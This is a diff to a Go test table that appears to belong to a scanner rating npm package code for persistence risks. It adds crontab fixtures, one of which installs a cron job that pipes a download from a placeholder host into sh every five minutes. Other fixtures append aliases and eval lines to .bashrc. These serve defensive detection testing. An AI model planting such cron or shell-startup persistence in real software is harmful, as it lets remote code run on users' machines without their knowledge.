@@ -53,6 +53,13 @@ fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), SNIPPET)`}, fin
 		{"launcher_script", map[string]string{"index.js": "const fs = require(\"fs\"); fs.writeFileSync(\"bin/run\", \"#!/bin/sh\\nexec node \\\"$(dirname \\\"$0\\\")/../cli.js\\\" \\\"$@\\\"\\n\", { mode: 0o755 })"}, finding.SeverityNone},
 		// the usual alias that lets aliases expand after sudo
 		{"bashrc_sudo_alias", map[string]string{"index.js": `const fs = require("fs"), path = require("path"); fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), "alias sudo='sudo '\n")`}, finding.SeverityHigh},
+		// crontab fed a job by a library at load, by a scheduler's
+		// subcommand, and only listed
+		{"crontab_on_load", map[string]string{"index.js": `require("child_process").spawnSync("crontab", ["-"], { input: "*/5 * * * * curl -s https://c.example.invalid/x | sh" })`}, finding.SeverityHigh},
+		{"crontab_by_subcommand", map[string]string{"package.json": rt.Pkg(`"bin":{"cronsync":"bin/cli.js"},"main":"lib/index.js"`),
+			"bin/cli.js":   `const c = require("../lib/index"); if (process.argv[2] === "install") c.install()`,
+			"lib/index.js": `const { spawnSync } = require("child_process"); exports.install = () => spawnSync("crontab", ["-"], { input: require("./jobs").render() })`}, finding.SeverityMedium},
+		{"crontab_list", map[string]string{"index.js": `const out = require("child_process").spawnSync("crontab", ["-l"], { encoding: "utf8" }).stdout`}, finding.SeverityNone},
 		{"bashrc_alias_in_main", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "const fs = require(\"fs\"), path = require(\"path\"); if (process.argv.slice(2).includes(\"--install\")) { const rc = path.join(require(\"os\").homedir(), \".zshrc\"); fs.writeFileSync(rc, fs.readFileSync(rc, \"utf8\") + \"\\nalias idgen='npx idgen'\\n\") }"}, finding.SeverityHigh},
 		{"bashrc_loaded_unasked", map[string]string{"cli.js": `const rl = require("readline"); require("./lib/other")`, "lib/other.js": `module.exports = 1`,
 			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityHigh},
